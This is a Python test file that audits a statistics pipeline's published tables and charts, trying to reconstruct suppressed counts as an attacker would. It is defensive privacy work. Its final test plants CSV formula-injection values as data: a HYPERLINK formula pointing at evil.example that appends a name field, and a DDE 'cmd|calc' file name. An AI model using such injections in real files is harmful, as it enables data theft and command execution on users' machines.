"""Disclosure audit (issue 15, items 8 and 9): run the real pipeline (`dpf-eval synth` and
`dpf-eval run`) at three scales, read everything under `published/` (every CSV, and the data
inside every chart of every page: the plotly figures embedded in the HTML) and attack it as a
reader would, trying to recover a suppressed or unrounded count:

(a) from percentages and the rounded totals published with them;
(b) from the steps of survival and incidence curves (each must rest on at least min_cell
    events and people at risk, on the monthly grid);
(c) from rows against totals (a suppressed cell as a total minus the other cells);
(d) from the force pages against the evaluation report (pilot totals minus force counts);
(e) from two consecutive editions side by side (a count suppressed in one and the totals of
    both: the relations of (c) and (d) differenced between the editions), and the later
    edition's "what changed" section, which must only repeat values the two published;

and checks that no chart carries more precision than the table behind it. It must find
nothing. A last test quarantines a delivery with a hostile column and file name and greps
every published file for them (nothing a force writes is published verbatim).

The audit reads an edition's folder (`published/current`, a link to the newest, or
`published/editions/<name>`); (e) runs on the two editions of tests/test_editions.py. The
restricted survival curves serve only as the truth the curve steps are checked against.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import math
import re
import shutil
from collections import defaultdict
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest

from evaluation.checks import COUNT_HEADER
from evaluation.config import Disclosure, load_config
from evaluation.disclosure import DAYS_PER_MONTH
from evaluation.report import plotly_js
from tests.conftest import LOCAL_INSTANCE, fast_config

SCALES = (0.05, 0.2, 1.0)
SEED = 11
ARMS = {"Pilot": "pilot", "Comparison": "comparison"}
TRACE_ARMS = {"Pilot forces": "pilot", "Comparison forces": "comparison"}


# --------------------------------------------------------------------------------------------
# Running the pipeline
# --------------------------------------------------------------------------------------------
def run_study(base: Path, scale: float, edit=None) -> tuple[Path, Path, Path]:
    """`dpf-eval synth` then `dpf-eval run` (a fast config copy) in its own Dagster home;
    `edit(drop)` may change the deliveries in between. Returns (config, drop, out)."""
    from pipelines.cli import main

    config = fast_config(base)
    drop, out = base / "drop", base / "out"
    home = base / "dagster_home"
    home.mkdir()
    shutil.copy(LOCAL_INSTANCE, home / "dagster.yaml")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("DAGSTER_HOME", str(home))
        synth = ["synth", "--config", str(config), "--out", str(drop), "--seed", str(SEED)]
        assert main([*synth, "--scale", str(scale)]) == 0
        if edit is not None:
            edit(drop)
        assert main(["run", "--config", str(config), "--drop", str(drop), "--out", str(out)]) == 0
    return config, drop, out


@pytest.fixture(scope="module", params=SCALES, ids=[f"scale-{s:g}" for s in SCALES])
def study(request, tmp_path_factory):
    base = tmp_path_factory.mktemp(f"audit-{request.param:g}")
    config, _, out = run_study(base, request.param)
    current = out / "published" / "current"
    return Published.read(current, out / "restricted", load_config(config).disclosure)


# --------------------------------------------------------------------------------------------
# Reading everything published
# --------------------------------------------------------------------------------------------
@dataclass
class Published:
    rules: Disclosure
    csvs: dict[str, list[dict[str, str]]]  # file name -> rows
    charts: dict[tuple[str, str], list[dict]]  # (page, div id) -> plotly traces
    curves: pd.DataFrame  # restricted: the truth behind the curves

    @classmethod
    def read(cls, published: Path, restricted: Path, rules: Disclosure) -> Published:
        csvs, charts = {}, {}
        for f in sorted(published.iterdir()):
            if f.suffix == ".csv":
                csvs[f.name] = list(csv.DictReader(io.StringIO(f.read_text())))
            elif f.suffix == ".html":
                for div, data in embedded_figures(f.read_text()):
                    charts[(f.stem, div)] = data
        curves = pd.read_parquet(restricted / "store" / "survival_curves.parquet")
        return cls(rules, csvs, charts, curves)

    def table(self, name: str) -> list[dict[str, str]]:
        return self.csvs[name]


def embedded_figures(html: str) -> list[tuple[str, list[dict]]]:
    """Every `Plotly.newPlot(div, data, layout, config)` in a page: (div id, data)."""
    dec = json.JSONDecoder()
    out = []
    for m in re.finditer(r"Plotly\.newPlot\(", html):
        div, i = dec.raw_decode(html, m.end())
        data, _ = dec.raw_decode(html, i + 1)
        out.append((div, data))
    return out


def number(cell: str) -> float | None:
    """A published number (a CSV cell may carry the formula guard's apostrophe)."""
    m = re.fullmatch(r"'?(-?[\d,]*\.?\d+)%?", cell.strip())
    return float(m.group(1).replace(",", "")) if m else None


def decimals(x: float | str) -> int:
    text = x if isinstance(x, str) else repr(float(x))
    text = text.strip().lstrip("'").rstrip("%")
    if "e" in text.lower():
        return 99
    return len(text.split(".")[1].rstrip("0")) if "." in text else 0


def count_range(cell: str, rules: Disclosure) -> tuple[int, int] | None:
    """The true counts a published count cell stands for: `<min_cell` is 0..min_cell-1, a
    rounded count r any n >= min_cell that rounds (half up) to r."""
    cell = cell.strip()
    if cell == f"<{rules.min_cell}":
        return (0, rules.min_cell - 1)
    r = number(cell)
    if r is None:
        return None
    half = rules.round_to / 2
    return (max(math.ceil(r - half), rules.min_cell), math.ceil(r + half) - 1)


# --------------------------------------------------------------------------------------------
# (a) percentages against rounded totals
# --------------------------------------------------------------------------------------------
def share_leaks(
    total: str, shares: list[str], rules: Disclosure, where: str, complement: bool = False
) -> list[str]:
    """Which true totals N (behind the rounded `total`) and counts k fit every published
    percentage; a leak is a single N that is not a multiple of round_to, or a single k for a
    percentage that is not a multiple of round_to or is a small non-zero count."""
    rng = count_range(total, rules)
    ps = [(s, number(s)) for s in shares]
    ps = [(s, p) for s, p in ps if p is not None]
    if rng is None or not ps:
        return []
    fits: dict[str, dict[int, set[int]]] = {}
    for s, p in ps:
        p = 100 - p if complement else p
        tol = 0.5 * 10 ** -decimals(s) + 1e-9
        fits[s] = {
            n: {k for k in range(n + 1) if abs(100 * k / n - p) <= tol}
            for n in range(max(rng[0], 1), rng[1] + 1)
        }
    ns = set.intersection(*({n for n, ks in f.items() if ks} for f in fits.values()))
    leaks = []
    if len(ns) == 1 and next(iter(ns)) % rules.round_to:
        leaks.append(f"{where}: total {total} can only be {ns} people ({[s for s, _ in ps]})")
    for s, f in fits.items():
        ks = set().union(*(f[n] for n in ns)) if ns else set()
        k = next(iter(ks)) if len(ks) == 1 else None
        if k is not None and (k % rules.round_to or 0 < k < rules.min_cell):
            leaks.append(f"{where}: {s} of {total} can only be {k} people")
    return leaks


def audit_shares(pub: Published) -> list[str]:
    rules, leaks = pub.rules, []
    # Table 1: each arm's shares against its people in the analysis
    t1 = pub.table("evaluation-report-table-1.csv")
    for col in ("Pilot forces", "Comparison forces"):
        total = t1[0][col]
        shares = [r[col] for r in t1 if r["Characteristic"].endswith("(%)")]
        leaks += share_leaks(total, shares, rules, f"table 1, {col}")
        if col == "Comparison forces":
            weighted = [
                r["Comparison forces, weighted"] for r in t1 if "(%)" in r["Characteristic"]
            ]
            leaks += share_leaks(total, weighted, rules, "table 1, weighted")
        # the share at the horizon is a share of the same people
        for r in pub.table("evaluation-report-at-horizon.csv"):
            cell = r[f"{col.split()[0]}: with the outcome"]
            pcts = re.findall(r"-?\d+\.\d+", cell)
            leaks += share_leaks(total, [p + "%" for p in pcts], rules, f"at horizon {cell}")
    # fidelity: each share against the contacts in its row (evaluation report and force pages)
    for name, rows in pub.csvs.items():
        if name.endswith(("fidelity-by-arm.csv", "fidelity-by-force.csv")):
            for r in rows:
                shares = [v for c, v in r.items() if c.endswith("(%)")]
                leaks += share_leaks(r["Contacts"], shares, rules, f"{name} {r}")
    # curves: values, limits and chart points against the people at risk at month 0
    for name, rows in pub.csvs.items():
        m = re.fullmatch(r"evaluation-report-(km|cif)-(\w+)\.csv", name)
        if not m:
            continue
        for arm in ARMS:
            total = rows[0][f"{arm}: number at risk"]
            cells = [
                r[c]
                for r in rows
                for c in (f"{arm} %", f"{arm} 95% CI (low)", f"{arm} 95% CI (high)")
            ]
            leaks += share_leaks(total, cells, rules, f"{name} {arm}")
            for trace in pub.charts.get(("evaluation-report", f"{m[1]}-{m[2]}-chart"), []):
                if trace["name"].startswith(f"{ARMS_NAME[arm]}"):
                    ys = [f"{y}" for y in trace["y"] if y is not None]
                    leaks += share_leaks(total, ys, rules, f"chart {name} {trace['name']}")
    return leaks


ARMS_NAME = {"Pilot": "Pilot forces", "Comparison": "Comparison forces"}


# --------------------------------------------------------------------------------------------
# (b) curve steps
# --------------------------------------------------------------------------------------------
def audit_curves(pub: Published) -> list[str]:
    """Every survival or incidence chart: points only on whole months, and every change of
    a line (or of its band) rests on >= min_cell events since the previous change and on
    >= min_cell people at risk (the truth: the restricted curves)."""
    rules, leaks, seen = pub.rules, [], 0
    for (page, div), traces in pub.charts.items():
        m = re.fullmatch(r"(km|cif)-(\w+)-chart", div)
        if not m:
            continue
        estimator = "km" if m[1] == "km" else "aalen_johansen"
        for trace in traces:
            arm = next(a for n, a in TRACE_ARMS.items() if trace["name"].startswith(n))
            xs, ys = trace["x"], trace["y"]
            if "band" in trace["name"]:  # drawn forwards (upper) then backwards (lower)
                h = len(xs) // 2
                lines = [(xs[:h], ys[:h]), (xs[h:][::-1], ys[h:][::-1])]
            else:
                lines = [(xs, ys)]
            truth = pub.curves[
                (pub.curves.outcome == m[2])
                & (pub.curves.arm == arm)
                & (pub.curves.estimator == estimator)
            ].sort_values("time")
            if truth.empty:
                continue
            start = 1.0 if estimator == "km" else 0.0
            value = truth.value.to_numpy()
            moved = abs(pd.Series(value).diff().fillna(value[0] - start).to_numpy()) > 1e-12
            event_times = truth.time.to_numpy()[moved]
            for x, y in lines:
                for xi in x:
                    if abs(xi - round(xi)) > 1e-9:
                        leaks.append(f"{page} {div} {trace['name']}: x={xi} is not a whole month")
                last = 0.0
                for i in range(1, len(y)):
                    if y[i] == y[i - 1]:
                        continue
                    seen += 1
                    t0, t1 = last * DAYS_PER_MONTH, x[i] * DAYS_PER_MONTH
                    events = int(((event_times > t0 + 1e-9) & (event_times <= t1 + 1e-9)).sum())
                    at = truth[truth.time <= t1 + 1e-9]
                    at_risk = float(at.n_at_risk.iloc[-1]) if len(at) else 0.0
                    if events < rules.min_cell or at_risk < rules.min_cell:
                        leaks.append(
                            f"{page} {div} {trace['name']}: the step at month {x[i]} rests on "
                            f"{events} events and {at_risk:g} people at risk"
                        )
                    last = x[i]
    assert seen or pub.curves.empty  # the audit looked at something
    return leaks


# --------------------------------------------------------------------------------------------
# (c), (d) rows against totals
# --------------------------------------------------------------------------------------------
def linear_leaks(parts: list[str], totals: list[str], rules: Disclosure, where: str) -> list[str]:
    """sum(parts) == sum(totals), every cell a published count: the range each cell can
    take given the others; a leak is a cell pinned to one value that is suppressed, or not a
    multiple of round_to."""
    cells = [(c, 1) for c in parts] + [(c, -1) for c in totals]
    ranges = [count_range(c, rules) for c, _ in cells]
    if any(r is None for r in ranges):
        return []
    leaks = []
    for i, ((cell, sign), (lo, hi)) in enumerate(zip(cells, ranges, strict=True)):
        # sign_i * x_i = -sum_{j != i} sign_j * x_j
        others_lo = sum(s * (r[0] if s > 0 else r[1]) for j, ((_, s), r) in
                        enumerate(zip(cells, ranges, strict=True)) if j != i)  # fmt: skip
        others_hi = sum(s * (r[1] if s > 0 else r[0]) for j, ((_, s), r) in
                        enumerate(zip(cells, ranges, strict=True)) if j != i)  # fmt: skip
        a, b = sorted((-others_hi * sign, -others_lo * sign))
        a, b = max(a, lo), min(b, hi)
        if a == b and (cell.startswith("<") or a % rules.round_to):
            leaks.append(f"{where}: the cell {cell!r} can only be {a}")
    return leaks


Relation = tuple[list[str], list[str]]  # published cells: sum(parts) == sum(totals)


def audit_totals(pub: Published) -> list[str]:
    return [
        leak
        for where, (parts, totals) in relations(pub).items()
        for leak in linear_leaks(parts, totals, pub.rules, where)
    ]


def relations(pub: Published) -> dict[str, Relation]:
    """Every sum a reader can form from the published counts, by where it comes from."""
    found: dict[str, Relation] = {}
    flow = pub.table("evaluation-report-cohort-flow.csv")
    for r in flow:  # (c) each force: extracts = excluded + cohort
        found[f"cohort flow {r['Force']}"] = (
            [r["Excluded"], r["People in the cohort"]], [r["People in the extracts"]]
        )  # fmt: skip
    arm_totals = {
        r["Forces"]: r["People in the cohort"]
        for name, rows in pub.csvs.items()
        if name.endswith("-cohort-by-arm.csv")
        for r in rows
    }
    exclusions = pub.table("evaluation-report-exclusions.csv")
    for arm in ARMS:
        mine = [r for r in flow if r["Arm"] == arm]
        found[f"cohort by arm {arm}"] = (  # (c) forces' cohorts against the arm's total
            [r["People in the cohort"] for r in mine], [arm_totals[f"All {arm.lower()} forces"]]
        )  # fmt: skip
        found[f"exclusions {arm}"] = (  # (c) the reasons for exclusion against the excluded
            [r[f"{arm} forces"] for r in exclusions], [r["Excluded"] for r in mine]
        )  # fmt: skip
    # (d) force pages against the evaluation report: contacts by force against the arm
    by_arm = {(r["Arm"], r["Go-live"]): r["Contacts"]
              for r in pub.table("evaluation-report-fidelity-by-arm.csv")}  # fmt: skip
    by_force = defaultdict(list)
    for name, rows in pub.csvs.items():
        if re.fullmatch(r"force-\w+-fidelity-by-force\.csv", name):
            for r in rows:
                by_force[(r["Arm"], r["Go-live"])].append(r["Contacts"])
    for key, cells in by_force.items():
        found[f"force pages' contacts {key}"] = (cells, [by_arm[key]])
    # (d) each force page's events against the pilot forces' events it shows beside them
    events = defaultdict(list)
    pilot_total = {}
    for name, rows in pub.csvs.items():
        if re.fullmatch(r"force-\w+-observed-rates\.csv", name):
            for r in rows:
                for period in ("before", "after"):
                    key = (r["Outcome"], period)
                    cell = r[f"Events {period} go-live"]
                    if r["Forces"] == "All pilot forces":
                        pilot_total[key] = cell
                    elif r["Forces"] != "All comparison forces":
                        events[key].append(cell)
    assert events, "no force page was read"
    for key, cells in events.items():
        found[f"force pages' events {key}"] = (cells, [pilot_total[key]])
    return found


# --------------------------------------------------------------------------------------------
# (e) two consecutive editions
# --------------------------------------------------------------------------------------------
def pair_leaks(then: Published, now: Published) -> list[str]:
    """Everything a reader holding both editions can do: each relation of (c) and (d)
    differenced between them, and the later edition's "what changed" tables."""
    a, b = relations(then), relations(now)
    leaks = []
    for where in sorted(a.keys() & b.keys()):
        leaks += differenced(a[where], b[where], now.rules, f"{where}, two editions")
    return leaks + changes_repeat(then, now)


def differenced(then: Relation, now: Relation, rules: Disclosure, where: str) -> list[str]:
    """One relation in two editions. The parts published alike in both are taken as
    unchanged (the reader's best guess: they cancel), so the changed parts and the totals
    of both editions make one relation, sum(changed now) + totals then == sum(changed then)
    + totals now, attacked as (c) attacks one edition's: a suppressed count 'then' must not
    follow from the totals and the count 'now'."""
    if len(then[0]) != len(now[0]):
        return []  # the parts are not the same rows (a force joined or left)
    changed = [i for i, (x, y) in enumerate(zip(then[0], now[0], strict=True)) if x != y]
    if not changed and then[1] == now[1]:
        return []
    parts = [now[0][i] for i in changed] + then[1]
    totals = [then[0][i] for i in changed] + now[1]
    return linear_leaks(parts, totals, rules, where)


CHANGES = "evaluation-report-changed-{}.csv"


def changes_repeat(then: Published, now: Published) -> list[str]:
    """The later edition's "what changed" tables hold no count, and each estimate in them
    is one its edition published in its hazard-ratio table (then: the earlier edition):
    the section repeats, it never differences."""
    leaks = []
    for name in (CHANGES.format("deliveries"), CHANGES.format("estimates")):
        header = list(now.csvs[name][0]) if now.csvs.get(name) else []
        leaks += [f"{name}: a count column {h!r}" for h in header if COUNT_HEADER.match(h)]
    for row in now.csvs.get(CHANGES.format("estimates"), []):
        for pub, when in ((then, "then"), (now, "now")):
            table = pub.table("evaluation-report-hazard-ratios.csv")
            shown = {v for r in table for v in r.values()} | {"–"}
            leaks += [
                f"what changed: {column} {cell} is not in the {when} edition's hazard ratios"
                for column, cell in row.items()
                if f" {when}" in column and cell not in shown
            ]
    return leaks


# --------------------------------------------------------------------------------------------
# Charts carry no more than their tables
# --------------------------------------------------------------------------------------------
def audit_chart_precision(pub: Published) -> list[str]:
    """A line chart's values (fidelity over time) have no more decimals than the cells of
    the table published as the data behind it."""
    leaks = []
    for (page, div), traces in pub.charts.items():
        m = re.fullmatch(r"fidelity-(\w+)-chart|(\w+)-over-time-chart", div)
        if not m:
            continue
        table = f"{page}-fidelity-{m[1]}-by-arm.csv" if m[1] else f"{page}-{m[2]}-over-time.csv"
        cells = [v for r in pub.csvs[table] for c, v in r.items() if c != "Months since go-live"]
        allowed = max((decimals(v) for v in cells if number(v) is not None), default=0)
        for trace in traces:
            for y in trace["y"]:
                if y is not None and decimals(y) > allowed:
                    leaks.append(f"{page} {div} {trace['name']}: {y} is more precise than {table}")
                    break
    return leaks


# --------------------------------------------------------------------------------------------
# The audit
# --------------------------------------------------------------------------------------------
@pytest.mark.slow
def test_no_count_can_be_recovered_from_anything_published(study: Published):
    assert study.charts and study.csvs
    leaks = (
        audit_shares(study)
        + audit_curves(study)
        + audit_totals(study)
        + audit_chart_precision(study)
    )
    assert not leaks, "\n".join(leaks[:30])


def test_the_audit_finds_a_share_that_pins_its_total():
    rules = Disclosure(min_cell=10, round_to=5)
    # the case: 51.5% and 33.5% of a published 235 fit only 233 people
    assert share_leaks("235", ["51.5%", "33.5%"], rules, "t")
    assert not share_leaks("235", ["51.1%", "34.0%"], rules, "t")  # 120 and 80 of 235
    # a suppressed cell that a total and its other cell give back
    assert linear_leaks(["<10", "10"], ["15"], rules, "t") == []  # 3..7: not pinned
    assert linear_leaks(["<10", "100"], ["100"], Disclosure(min_cell=10, round_to=1), "t")


def test_the_audit_finds_a_count_two_editions_give_away():
    """(e): force A's cohort '<10' then and '20' now, force B's unchanged, the total 55 then
    and 70 now: with exact totals (round_to 1) A had 20 + 55 - 70 = 5 people then."""
    exact, rounded = Disclosure(min_cell=10, round_to=1), Disclosure(min_cell=10, round_to=5)
    then, now = (["<10", "50"], ["55"]), (["20", "50"], ["70"])
    assert differenced(then, now, exact, "t") == ["t: the cell '<10' can only be 5"]
    assert differenced(then, now, rounded, "t") == []  # rounded, A was 0 to 9 (not pinned)
    assert differenced(then, then, exact, "t") == []  # nothing changed
    # with no change in the forces' counts, totals that moved cannot pin them
    assert differenced((["<10", "50"], ["55"]), (["<10", "50"], ["60"]), rounded, "t") == []


# --------------------------------------------------------------------------------------------
# Item 9: nothing a force writes is published verbatim
# --------------------------------------------------------------------------------------------
HOSTILE_COLUMN = '=HYPERLINK("evil.example","x")&first_name'
HOSTILE_FILE = "@SUM(1+1)*cmd|'calc'!A0.csv"
HOSTILE_PARTS = ("HYPERLINK", "evil.example", "&first_name", "@SUM(", "cmd|", "calc'", "!A0")


def make_hostile(drop: Path) -> None:
    """ASH's delivery gains a column with a formula for a name (blocking: the name suggests
    a person's name) and a stray file with a formula for a name; the manifest is redone."""
    folder = drop / "ASH" / "2026-09-30"
    people = folder / "people.csv"
    lines = people.read_text().splitlines()
    lines[0] += ',"' + HOSTILE_COLUMN.replace('"', '""') + '"'
    lines[1:] = [line + ",x" for line in lines[1:]]
    people.write_text("\n".join(lines) + "\n")
    (folder / HOSTILE_FILE).write_text("x\n")
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["files"]["people.csv"]["sha256"] = hashlib.sha256(people.read_bytes()).hexdigest()
    (folder / "manifest.json").write_text(json.dumps(manifest, indent=2))


@pytest.mark.slow
def test_names_a_force_wrote_are_never_published(tmp_path):
    base = tmp_path / "study"
    base.mkdir()
    _, _, out = run_study(base, 0.05, edit=make_hostile)
    # the hostile names did reach the findings (restricted), and the delivery was quarantined
    reports = "".join(p.read_text() for p in (out / "restricted").rglob("*.json"))
    assert "HYPERLINK" in reports and "cmd|" in reports
    published = out / "published" / "current"
    quarantined = [
        r
        for r in csv.DictReader(
            io.StringIO((published / "data-quality-deliveries.csv").read_text())
        )
        if r["Status"] == "quarantined"
    ]
    assert quarantined and "a column not in the contract" in quarantined[0]["Note"]
    library = plotly_js()
    for f in published.iterdir():
        text = f.read_text().replace(library, "")
        found = [
            part for part in HOSTILE_PARTS if part in text or part.replace('"', "&#34;") in text
        ]
        assert not found, (f.name, found)
